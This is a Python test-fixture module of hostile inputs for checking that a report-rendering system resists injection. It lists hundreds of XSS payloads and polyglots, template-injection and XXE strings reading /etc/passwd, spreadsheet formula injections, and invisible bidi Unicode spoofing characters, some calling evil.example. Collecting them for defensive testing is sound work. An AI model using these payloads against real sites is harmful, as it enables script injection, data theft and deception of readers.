"""What a report, a note, an address or a form may hold to harm whoever looks at it: markup that would run, and letters that deceive.

Each is written here once, under a name. ``RUN`` is the call by which one that ran is known; where markup of a payload became an element, it is one
with the attribute ``MARK``.
"""

from __future__ import annotations

import unicodedata
from itertools import pairwise, product
from typing import Any

from running import small

RUN = "pwned()"
MARK = "data-pwned"
EVIL = "https://evil.example"

# --- texts that reports have wherever words may stand ---------------------------------------------------------------------

TEXTS = {
    "an override": "قال \u202eمتحدث\u202c إن \u202dأحداً لم يفر",
    "embeddings": "قال \u202aمتحدث\u202b إن أحداً",
    "unclosed isolates": "قال \u2066متحدث \u2067إن \u2068أحداً لم يفر",
    "closing what is not open": "قال\u2069\u2069\u2069 متحدث\u202c إن",
    "marks of direction": "قال\u200f متحدث\u200e إن\u061c أحداً",
    "zero width": "ق\u200bال م\u200cتح\u200dدث\u2060 إن\ufeff",
    "tatweel": "قـــــال متـحـدث إن أحـداً",
    "a soft hyphen": "spokes\u00adman said",
    "Persian letters": "قالت یک ہیئة کبیرة",
    "Arabic and Persian digits": "فرّ ٢٠٠ أو ۲۰۰ أو 200",
    "Latin that is Cyrillic": "\u0421\u0405\u0415\u0406 said, not CSEI",
    "presentation forms": "ﻗﺎﻝ ﻣﺘﺤﺪﺙ ﷺ ﷲ ﻻ",
    "a thousand diacritics": "قا" + "\u064b\u0651\u0670\u0654" * 250 + "ل متحدث",
    "composed and not": "أحد أحد é e\u0301 \u212b \u00c5",
    "ligatures and fractions": "ﬁﬂ ½ ² ™ ㎏",
    "letters beyond the plane": "قال 😀 \U00010e60\U0001ee00 𐎠 \U000e0041\U000e007f",
    "line ends of all kinds": "قال\r\nمتحدث\rإن\u2028أحداً\u2029لم\x85يفر\x0b\x0c",
    "controls": "قال \x01\x02\x07\x08 متحدث \x7f\x80\x9b",
    "escapes of the terminal": "قال \x1b[31m\x1b]8;;http://x\x07متحدث\x1b[2J\x9b1A",
    "not a letter": "قال \ufffe\uffff\U0001ffff متحدث",
    "private letters": "قال \ue000\uf8ff متحدث",
    "markup": "قال [red]متحدث[/red] [link=http://x]إن[/link] \\[bold] :smile:",
    "a script": "<script>alert(1)</script> قال &amp; \"'`",
    "quotes of SPARQL": "قال \"\"\" ''' \\ > } ; DROP ALL # {",
}
MARKUP = ["[red]red[/red]", "[/]", "[link=http://x/]here[/link]", "[@click=app.quit]x[/]", "\\[bold]", ":smile:", "[bold", "]", "[[x]]", "{x}", "%s"]
FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://x/","y")', "=cmd|' /C calc'!A0"]
PROGRAMS = ["</script><script>alert(1)</script>", '"}]}', "\\", "\u2028", "'; DROP TABLE reports; --", "a\x01"]
LINES = ["x\n✓ committed  forged.json  1 claims", "x\r✓ committed", "x\n\n0 refused", "x\u2028forged", "x\x85forged", "x\x0bforged", "x\n│ a │ b │"]
STAGES = {
    "an attribute": "\" onmouseover='alert(1)' autofocus onfocus=alert(1) x='",
    "an image": "<svg/onload=alert(1)><img src=x onerror=alert(1)>",
    "a page": "<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
    "a comment": "--><script>alert(1)</script><!-- ]]><![CDATA[",
    "the end of a cell": "</td></tr></table></span></bdi><h1>forged</h1>",
    "an address": "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
}
LINKS = ("<javascript:alert(1)>", "<data:text/html,alert(1)>", "<http://example.org/'onclick='alert(1)>", "<vbscript:x>", "<JAVASCRIPT:alert(1)>")
ECHOED = (
    "<script>alert(1)</script>",
    '"}]}\n{"status": 200}',
    "\u202e\u2066evil\u200b",
    "\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "\x1b[2J\x07",
    "'\"><svg/onload=x>",
)


def deceiving(text: str, number: int = 0) -> dict[str, Any]:
    """A document that has a text wherever a document may have words."""
    value = small(text, f"r{number}", title=text, note=text, author=text, publisher_note=text, retrieved_by=text)
    (claim,) = value["claims"]
    claim["polarity"], claim["certainty"] = "affirms", "probable"
    claim["chain"][0]["verb"] = text
    claim["chain"] += [{"named": text[:500], "surface": text}, {"anonymous": text[:500], "surface": text, "kind": "anonymous"}]
    claim["event"] |= {"place": text[:500], "helpers": [text[:500], "us-forces"]}
    claim["event"]["quantity"] = {"min": 1, "max": 2, "approximate": False, "of": "detainees", "counted": [text[:500], "isis"], "wording": text}
    claim["rule"] = text[:500]
    claim["review"] = {"state": "accepted", "by": text, "why": text}
    return value


def sets_sorted(value: Any) -> Any:
    """JSON values with lists of words sorted, because their order says nothing."""
    if isinstance(value, dict):
        return {key: sets_sorted(one) for key, one in value.items()}
    if isinstance(value, list):
        return sorted(value) if all(isinstance(one, str) for one in value) else [sets_sorted(one) for one in value]
    return value


# --- markup that would run ------------------------------------------------------------------------------------------------

_IMAGE = f"<img {MARK} src=x onerror={RUN}>"
SCRIPTS = (
    f"<script {MARK}>{RUN}</script>",
    f"<ScRiPt {MARK}>{RUN}</sCrIpT>",
    f"<script\n{MARK}>{RUN}</script\n>",
    f"<script/{MARK}>{RUN}</script/x>",
    f"<script\t{MARK}>{RUN}</script\t>",
    f"<script\x0c{MARK}>{RUN}</script\x0c>",
    f"<script {MARK} src=//evil.example/x.js></script>",
    f'<script {MARK} src="data:text/javascript,{RUN}"></script>',
    f"<script {MARK} type=module>{RUN}</script>",
    f"<script {MARK} async defer nonce=x>{RUN}</script>",
    f"<scr<script {MARK}>ipt>{RUN}</script>",
    f"<<script {MARK}>{RUN}//<</script>",
    f"<script {MARK}>{RUN}//",
    f"<script {MARK}><!--{RUN}//--></script>",
    f"<svg><script {MARK}>{RUN}</script></svg>",
    f"<svg><script {MARK} href='data:text/javascript,{RUN}'/></svg>",
    f"＜script {MARK}＞{RUN}＜/script＞",
    f"\u202e<script {MARK}>{RUN}</script>\u202c",
    f"<scr\u200bipt {MARK}>{RUN}</scr\u200bipt>",
)
# What would end the element, attribute or comment that a text stands in, and then begin another.
_ENDS = [
    f"</{name}>"
    for name in (
        "script",
        "title",
        "textarea",
        "style",
        "noscript",
        "template",
        "iframe",
        "xmp",
        "select",
        "option",
        "button",
        "td",
        "bdi",
        "a",
        "svg",
    )
]
_ENDS += [
    "</SCRIPT >",
    "</script\n>",
    "</script\t/x>",
    "</ScRiPt\x0c>",
    "</title\r>",
    "</TEXTAREA/>",
    "</bdi></span></td></tr></table>",
    "</math></svg>",
]
_ENDS += ["-->", "--!>", "]]>", "?>", "%>", "'>", '">', "`>", "'\">", "/>", "&gt;", "\\x3e"]
BREAKOUTS = tuple(f"{end}{_IMAGE}" for end in _ENDS)
HANDLERS = (
    *(f"<{name} {MARK} {event}={RUN}>" for name, event in (("body", "onload"), ("body", "onpageshow"), ("svg", "onload"), ("marquee", "onstart"))),
    *(
        f"<{name} {MARK} autofocus onfocus={RUN}>x"
        for name in ("input", "select", "textarea", "button", "a tabindex=1", "p contenteditable", "summary")
    ),
    *(f"<{name} {MARK} src=x onerror={RUN}>" for name in ("img", "image", "audio", "video", "source", "embed", "iframe", "track", "script")),
    f"<img/{MARK}/src=x/onerror={RUN}>",
    f"<IMG {MARK} SRC=x ONERROR={RUN}>",
    f"<img {MARK} src=x onerror=&#112;wned&lpar;&rpar;>",
    f"<img {MARK} src=x:x onerror\n=\n'{RUN}'>",
    f"<img {MARK} srcset=x onerror={RUN} loading=eager>",
    f"<video {MARK}><source onerror={RUN}></video>",
    f"<video {MARK} poster=//evil.example/p.png src=//evil.example/v></video>",
    f"<details {MARK} open ontoggle={RUN}>x</details>",
    f"<object {MARK} data=x onerror={RUN}></object>",
    f"<iframe {MARK} onload={RUN}></iframe>",
    f"<iframe {MARK} srcdoc='&lt;script&gt;parent.{RUN}&lt;/script&gt;'></iframe>",
    f"<link {MARK} rel=stylesheet href=//evil.example/x.css onerror={RUN}>",
    f"<style {MARK} onload={RUN}></style>",
    f"<dialog {MARK} open onclose={RUN}><form method=dialog><button autofocus>x</button></form></dialog>",
    f"<x {MARK} style='animation:x 1s' onanimationstart={RUN}></x>",
    f"<div {MARK} onmouseover={RUN} onpointerenter={RUN} style='position:fixed;inset:0;z-index:99'>x</div>",
    f"<svg {MARK}><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg {MARK}><set onbegin={RUN} attributeName=x to=y></svg>",
    f"<svg {MARK}><a><animate attributeName=href values='javascript:{RUN}'/><text x=9 y=9>x</text></a></svg>",
    f"<svg {MARK}><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={RUN}/>#x'></svg>",
    f"<svg {MARK}><foreignObject><iframe onload={RUN}></iframe></foreignObject></svg>",
    f"<math {MARK} href='javascript:{RUN}'><mtext>x</mtext></math>",
    f"<math {MARK}><maction actiontype=statusline href='javascript:{RUN}'>x</maction></math>",
    f"<meta {MARK} http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<meta {MARK} http-equiv=Content-Security-Policy content='script-src *'>",
    f"<base {MARK} href=//evil.example/>",
    f"<form {MARK} action=//evil.example/ id=x></form><button form=x autofocus>x</button>",
    f"<input {MARK} type=image src=x onerror={RUN} formaction=javascript:{RUN}>",
    f"<template {MARK} shadowrootmode=open><slot onslotchange={RUN}></slot></template>",
    f"<button {MARK} popovertarget=p onbeforetoggle={RUN} autofocus>x</button><div id=p popover></div>",
    f"<portal {MARK} src=//evil.example/></portal>",
    f"<a {MARK} ping=//evil.example/ href=/>x</a>",
    f"<table {MARK} background=//evil.example/x.png><tr><td background=//evil.example/y.png>x</table>",
)
ATTRIBUTES = tuple(
    f"{quote}{space}{MARK}{space}{event}={RUN}{space}x={quote}"
    for quote, space, event in product(('"', "'", "`", ""), (" ", "\n", "/"), ("onmouseover", "autofocus onfocus", "accesskey=x onclick"))
)
SCHEMES = (
    *(
        f"{scheme}:{RUN}"
        for scheme in ("javascript", "JaVaScRiPt", "vbscript", "livescript", "feed:javascript", "view-source:javascript", "\x01javascript")
    ),
    *(f"java{between}script:{RUN}" for between in ("\t", "\n", "\r", "&Tab;", "&NewLine;", "\u200b", "\u00ad", "\\n", "%09")),
    *(f"{first}avascript:{RUN}" for first in ("&#106;", "&#x6A;", "&#0000106", "\\u006a", "\\x6a", "%6a", "ｊ", "&amp;#106;", " \tj")),
    *(f"javascript{colon}{RUN}" for colon in ("&colon;", "&#58;", "&#x3a;", "\t:", "：", "%3a")),
    f"javascript://%0a{RUN}",
    f"javascript://evil.example/%0d%0a{RUN}",
    f"data:text/html,<script {MARK}>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+#pwned",
    f"data:image/svg+xml,<svg {MARK} xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    f"data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml' {MARK}>{RUN}</x:script>",
    *(f"{start}evil.example/pwned" for start in ("//", "/\\", "\\\\", "///", "https:", "http:/\\", "https://127.0.0.1@", "https://127.0.0.1%2f@")),
    "file:///etc/passwd?pwned",
    f"blob:{EVIL}/pwned",
    f"filesystem:{EVIL}/temporary/pwned",
)
LINKED = tuple(
    html.format(address=address)
    for html, address in product(
        (f'<a {MARK} href="{{address}}">x</a>', f"<iframe {MARK} src='{{address}}'></iframe>"),
        (f"javascript:{RUN}", f"java\tscript:{RUN}", f"&#106;avascript&colon;{RUN}", f"data:text/html,<script>{RUN}</script>", f"{EVIL}/pwned"),
    )
)
# Where a text stands in a string of a script, in JSON, in a style sheet or in a comment.
STRINGS = (
    *(
        f"{end}{RUN};//"
        for end in ("';", '";', "`;", "\\';", '\\";', "\\\\';", "</script>';", "\n", "\r", "\u2028", "\u2029", "*/", "-->\n", "]);", "}}; ")
    ),
    f"`-{RUN}-`",
    f"'-{RUN}-'",
    f"${{{RUN}}}",
    f"[].constructor.constructor('{RUN}')()",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f'{{"__proto__": {{"onload": "{RUN}"}}, "constructor": {{"prototype": 1}}}}',
    f'"}}, "pwned": {{"x": "{RUN}',
    '"}]}\n{"pwned": true}',
    "pwned\\",
    f"<style {MARK}>@import '//evil.example/x.css'; *{{background:url(//evil.example/y)}}</style>",
    f"</style><style {MARK}>body{{display:none}}</style>",
    f"pwned;background:url(//evil.example/z);x:expression({RUN});-moz-binding:url(//evil.example/b)",
    f"}}*{{content:url('//evil.example/pwned')}}/*{RUN}",
)
# Strings that end several contexts at once, and markup that becomes another when it is parsed, written and parsed again.
POLYGLOTS = (
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={RUN} )//%0D%0A//</stYle/</titLe/</scRipt/--!>\\x3csVg/<sVg/{MARK}/oNloAd={RUN}//>\\x3e",
    f'\'">><marquee {MARK}>{_IMAGE}</marquee>" onfocus={RUN} autofocus//</script><script>{RUN}</script>',
    f"\"'`--></style></script></title></textarea>{_IMAGE}${{{RUN}}}{{{{constructor.constructor('{RUN}')()}}}}",
    f'<noscript><p title="</noscript>{_IMAGE.replace(chr(34), "")}">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img {MARK} src=1 onerror={RUN}&gt;">',
    f'<svg></p><style><a id="</style>{_IMAGE}">',
    f"<form><math><mtext></form><form><mglyph><style></math>{_IMAGE}",
    f"<svg><![CDATA[><image {MARK} href=x onerror={RUN}>]]></svg>",
    f'<select><template {MARK}><style><!--</style><a rel="--&gt;</style></template></select>{_IMAGE}">x</a>',
    f"<option><style></option></select><b>{_IMAGE}</b></style></option>",
    f"<!--><img {MARK} src=x onerror={RUN}>-->",
    f"<!-- --!>{_IMAGE}-->",
    f"<? pwned ?>{_IMAGE}<!ELEMENT x ANY>",
    f'<!DOCTYPE x [<!ENTITY pwned SYSTEM "file:///etc/passwd">]><x {MARK}>&pwned;</x>',
    f"<a {MARK}=`'\"`><b {MARK}='`><img {MARK} src=x onerror={RUN}>`'>",
    f"<x\x0b{MARK}\x0conclick={RUN}>x",
    f"&lt;script {MARK}&gt;{RUN}&lt;/script&gt;",
    f"&amp;lt;script {MARK}&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    f"&#60;script {MARK}&#62;{RUN}&#60;/script&#62;",
    f"&#x3c;img {MARK} src=x onerror={RUN}&#x3e;",
    f"%3Cscript {MARK}%3E{RUN}%3C/script%3E",
    f"%253Cscript {MARK}%253E{RUN}%253C/script%253E",
    f"\\x3cscript {MARK}\\x3e{RUN}\\x3c/script\\x3e",
    f"+ADw-script {MARK}+AD4-{RUN}+ADw-/script+AD4-",
    "&pwned &#x202e; &rlm; &#8206; &zwnj; &shy; &NoBreak;",
)
# What engines of templates and formats would fill in; the last are those of our own messages.
TEMPLATES = (
    *(
        f"{start} 7*7 + 'pwned' {end}"
        for start, end in (("{{", "}}"), ("${", "}"), ("#{", "}"), ("<%=", "%>"), ("[[", "]]"), ("*{", "}"), ("@{", "}"), ("{%", "%}"))
    ),
    "{{ pwned.__class__.__mro__[1].__subclasses__() }}",
    "{{ config }}{{ request }}{{ session.csrf }} pwned",
    "{% include '/etc/passwd' %} {% raw %} pwned",
    "{# pwned #}",
    "{0.__class__.__init__.__globals__} pwned",
    "%s %n %x %(pwned)s %1$s",
    "$(pwned) `pwned` ; pwned | pwned",
    "<?php pwned(); ?>",
    "#set($pwned = 1) $pwned.class",
    "{{=<% %>=}}<%& pwned %>",
    "{n} {words} {name} {claim} pwned",
    "`pwned` *pwned* _pwned_ [pwned](javascript:pwned()) ![pwned](//evil.example/x.png)",
)
HTMX = tuple(
    f"<div {MARK} {attributes}>x</div>"
    for attributes in (
        "hx-get=/health hx-trigger=load",
        "data-hx-get=/health data-hx-trigger=load",
        "hx-post=/signout hx-trigger=load",
        "hx-delete=/graphs hx-trigger=revealed",
        f"hx-on:load={RUN}",
        f"hx-on::load={RUN}",
        f'hx-on="load: {RUN}"',
        f"data-hx-on-htmx-load={RUN}",
        f"hx-get=/health hx-trigger='load[{RUN}]'",
        f"hx-get=/health hx-trigger=load hx-vals='js:{{x: {RUN}}}'",
        f"hx-get=/health hx-trigger=load hx-headers='js:{{x: {RUN}}}'",
        "hx-boost=true",
        f"hx-get={EVIL}/pwned hx-trigger=load",
        "hx-get=/health hx-trigger=load hx-target=body hx-swap=outerHTML",
        "hx-swap-oob=innerHTML:body",
        "hx-ws=connect:wss://evil.example/ hx-sse=connect:/health",
    )
)
CELLS = (
    *(f"{start}pwned" for start in ("\n=", "＝", "|", "%", "'=", ";=", ",=", "=-+@")),
    '=IMPORTXML("https://evil.example/pwned","//a")',
)

# --- letters that deceive -------------------------------------------------------------------------------------------------

# Letter by letter what has no shape of its own: what turns others, joins or parts them, or is not seen at all.
UNSEEN = (
    *("\u00ad\u034f\u061c\u070f\u115f\u1160\u17b4\u17b5\u180b\u180c\u180d\u180e\u180f\u2800\u3164\uffa0\ufeff\ufff9\ufffa\ufffb"),
    *map(chr, (*range(0x200B, 0x2010), *range(0x2028, 0x202F), *range(0x2060, 0x2070))),
    *map(chr, (0x110BD, 0x110CD, 0x13430, 0x13437, 0x1343F, 0x1BCA0, 0x1BCA3, 0x1D173, 0x1D17A)),
    *map(chr, (0xFE00, 0xFE05, 0xFE0E, 0xE0100, 0xE01EF)),
    *map(chr, (0xE0001, 0xE0020, 0xE0041, 0xE007A, 0xE007F)),
    *map(chr, (0x01, 0x07, 0x08, 0x0B, 0x0C, 0x1B, 0x1C, 0x7F, 0x80, 0x85, 0x9B, 0x9F)),
)
NOTHING = tuple(map(chr, (0x2065, 0xFFF0, 0xFFF8, 0xFDD0, 0xFDEF, 0xFFFE, 0xFFFF, 0x1FFFE, 0x1FFFF, 0xE0000, 0xE0002, 0xE01F0, 0xE0FFF, 0x10FFFF)))
OPENING, CLOSING = "\u202a\u202b\u202d\u202e\u2066\u2067\u2068", "\u202c\u2069"
# Each with letters of both directions around it, and Arabic at its end: what follows on a line would be turned, were it let.
SINGLE = {f"U+{ord(one):04X} {unicodedata.name(one, 'without a name')}": f"pwned {one}12{one} قال" for one in (*UNSEEN, *NOTHING)}
NESTED = (
    *(f"pwned {one}قال abc" for one in OPENING),
    *(f"pwned قال {one}" for one in OPENING),
    *(f"pwned {one}قال 12{end} abc {one}إن" for one, end in product(OPENING, CLOSING)),
    *(f"pwned {one * 8}قال{CLOSING[0] * 7} 12 {other * 2}" for one, other in pairwise(OPENING)),
    f"pwned {OPENING * 19}قال",  # deeper than the algorithm follows
    f"{CLOSING * 70} pwned قال",
    "\u202e\u2066\u202d pwned \u2069\u202c قال\u202b",
    "pwned\u2029\u202eقال\u2028\u2067abc",
)
LETTERS = (
    "pwned ٢٠٠ و ２００ و ² قال",
    "ｐｗｎｅｄ pwned 𝐩𝐰𝐧𝐞𝐝 рwnеd",
    "pwned Z" + "\u0300\u0316\u0489\u20dd" * 40 + "algo",
    "pwned 🏴\U000e0067\U000e0062\U000e007f 👩\u200d👩\u200d👧 ❤\ufe0f 1\ufe0f\u20e3",
    "pwned ق\ufe0fال se\ufe0fcret",
    "pwned \ud7ff\ue000\uf8ff\U000f0000\U0010fffd قال",
    "pwned \U00010000\U0001d7ff\U00010e60\U0001ee00 𐎠 قال",
    "pwned ؀١٢ ۝٣ ࢐٤ قال",
    "pwned (قال) [متحدث] {إن} <أحداً> «لم» 12-13/14 % $ قال",
    "pwned שלום قال ܫܠܡܐ ߒߞߏ 12",
    "pwned אב <قال> 12:30 (34) א",
    "قال pwned 12",
)

GROUPS: dict[str, tuple[str, ...]] = {
    "script": SCRIPTS,
    "breakout": BREAKOUTS,
    "handler": HANDLERS,
    "attribute": ATTRIBUTES,
    "scheme": SCHEMES,
    "link": LINKED,
    "string": STRINGS,
    "polyglot": POLYGLOTS,
    "template": TEMPLATES,
    "htmx": HTMX,
    "cell": CELLS,
    "nested": NESTED,
    "letters": LETTERS,
    "words": tuple(f"{text} pwned" for text in (*TEXTS.values(), *STAGES.values(), *MARKUP, *FORMULAS, *PROGRAMS, *LINES)),
}
# All of them by name; the word "pwned" is in each.
PAYLOADS = {f"{group} {number}": text for group, texts in GROUPS.items() for number, text in enumerate(texts)} | SINGLE
